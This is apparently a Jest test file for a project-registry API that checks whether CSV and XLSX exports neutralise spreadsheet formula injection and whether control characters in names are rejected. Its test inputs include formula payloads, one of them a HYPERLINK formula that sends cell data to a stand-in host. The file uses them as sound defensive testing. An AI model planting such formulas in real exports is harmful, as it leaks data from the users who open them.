import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import {
  ADMIN,
  AUDITOR,
  ManualClock,
  RunningApi,
  expectProblem,
  seedReference,
  startApi,
} from './support/api-harness';

// The setup signs and lists several projects: seconds on a loaded machine.
jest.setTimeout(60_000);
/** Issue 14, item 2: no export runs what an officer typed as a name; names carry no controls. */
describe('exports and names (formula injection, control characters)', () => {
  const FORMULAS = ['=1+1', '@SUM(A1)', '-2+3', '+1', '=HYPERLINK("http://x.example/?"&A1,"click")'];
  let dataDir: string;
  let api: RunningApi;
  const clock = new ManualClock(new Date('2023-11-01T02:00:00Z'));
  const sign = (projectId: string, name: string) =>
    api.http.post('/api/v1/projects').set('Authorization', api.bearer(ADMIN)).send({
      projectId,
      name,
      enterprise: name,
      zoneId: 'jinzhong-kfq',
      totalInvestmentWan: 100_000,
      industrial: true,
      signedOn: '2023-02-22',
    });
  const download = (path: string) =>
    api.http
      .get(`/api/v1${path}`)
      .set('Authorization', api.bearer(AUDITOR))
      .buffer(true)
      .parse((res, done) => {
        const chunks: Buffer[] = [];
        res.on('data', (chunk: Buffer) => chunks.push(chunk));
        res.on('end', () => done(null, Buffer.concat(chunks)));
      })
      .expect(200);

  beforeAll(async () => {
    dataDir = mkdtempSync(join(tmpdir(), 'plt-injection-'));
    api = await startApi({ dataDir, clock });
    await seedReference(api);
    for (const [index, name] of FORMULAS.entries()) {
      await sign(`f${index}`, name).expect(201);
      await api.http
        .post(`/api/v1/projects/f${index}/listings`)
        .set('Authorization', api.bearer(ADMIN))
        .send({ roundId: '2023-r1', batch: 'signing' })
        .expect(201);
    }
  });

  afterAll(async () => {
    await api.close();
    rmSync(dataDir, { recursive: true, force: true });
  });

  it('CSV: every name a spreadsheet would run as a formula is text with a leading apostrophe', async () => {
    const csv = (await download('/notifications/2023-10/preview?format=csv')).body as Buffer;
    const records: string[][] = parse(csv, { bom: true, relax_column_count: true, skip_empty_lines: true });
    const cells = records.flat();
    for (const name of FORMULAS) {
      expect(cells).toContain(`'${name}`);
      expect(cells).not.toContain(name);
    }
    // No field that a spreadsheet reads starts with a formula trigger.
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  });

  it('XLSX: the names are string cells, never formulas', async () => {
    const xlsx = (await download('/notifications/2023-10/preview?format=xlsx')).body as Buffer;
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(xlsx as unknown as ExcelJS.Buffer);
    const found: string[] = [];
    workbook.eachSheet((sheet) =>
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
          expect(cell.formula).toBeUndefined();
          if (FORMULAS.includes(String(cell.value))) {
            expect(cell.type).toBe(ExcelJS.ValueType.String);
            found.push(String(cell.value));
          }
        }),
      ),
    );
    expect(new Set(found)).toEqual(new Set(FORMULAS));
  });

  it('refuses names with NUL, control characters or lone surrogates (400, naming the field)', async () => {
    for (const name of ['a\u0000b', 'a\u0007b', 'line\nbreak', 'a\ud800b']) {
      expectProblem(await sign(`bad-${name.length}`, name), 400, { field: 'name' });
    }
    // any text of a request: a reason with NUL is refused too, a reason with a line break is not
    const reason = await api.http
      .post('/api/v1/projects/f0/amendments')
      .set('Authorization', api.bearer(ADMIN))
      .send({ industryChain: '新材料', reason: 'typo\u0000' });
    expectProblem(reason, 400, { field: 'reason' });
  });
});
